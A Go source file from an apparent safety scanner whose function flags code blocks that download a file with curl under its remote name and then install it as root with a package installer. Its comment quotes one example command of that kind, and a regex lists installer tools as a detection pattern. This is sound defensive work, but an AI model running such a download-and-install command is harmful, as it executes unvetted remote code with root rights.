package safety

import (
	"regexp"
	"strings"
)

// Round 65 (payload): a file fetched under its remote name and then
// installed.
//
// "curl -sO http://host/agent.pkg && sudo installer -pkg agent.pkg":
// curl's -O saves the download under the URL's last path part, and a
// package installer (installer -pkg, dpkg -i, rpm -i, msiexec /i) runs
// the package's scripts as root, as running the file would (round 51
// reads the run of such a file, checkDownloadThenRun the install of a
// file named with -o). The origin is judged as any download's
// (untrustedHost: the skill's subject or a known vendor still vouches).
var install65 = `(?i)\b(?:installer\s+-pkg|dpkg\s+-i|rpm\s+-[iU]\w*|msiexec(?:\.exe)?\s+/i|Add-AppxPackage)\s*=?\s*["']?`

func (c *checker) checkPayload65(d *doc, subject string) {
	t := d.v.text
	for _, f := range d.fences {
		b := t[f.start:f.end]
		if len(b) > maxStatement*4 || !strings.Contains(b, "://") || integrityCheck.MatchString(b) {
			continue
		}
		lb := asciiLower(b)
		if !strings.Contains(lb, "curl") || !lowerHas(lb, "installer", "dpkg", "rpm", "msiexec", "add-appxpackage") {
			continue
		}
		for _, m := range curlRemoteName51.FindAllStringSubmatchIndex(b, 8) {
			w := untrustedHost(b[m[2]:m[3]], subject)
			path := b[m[4]:m[5]]
			if w == "" || path == "" || strings.Trim(path, "./") == "" {
				continue
			}
			q := `(?:\.[/\\])?` + regexp.QuoteMeta(path) + `(?:["'\s;&|)]|$)`
			if im := lazyRegexp(install65 + q).FindStringIndex(b[m[1]:]); im != nil {
				c.add(d, RuleRemoteExec, Refuse, f.start+m[0], f.start+m[1]+im[1], strings.Replace(w, "and runs it", "and installs it as a package", 1))
				return
			}
		}
	}
}
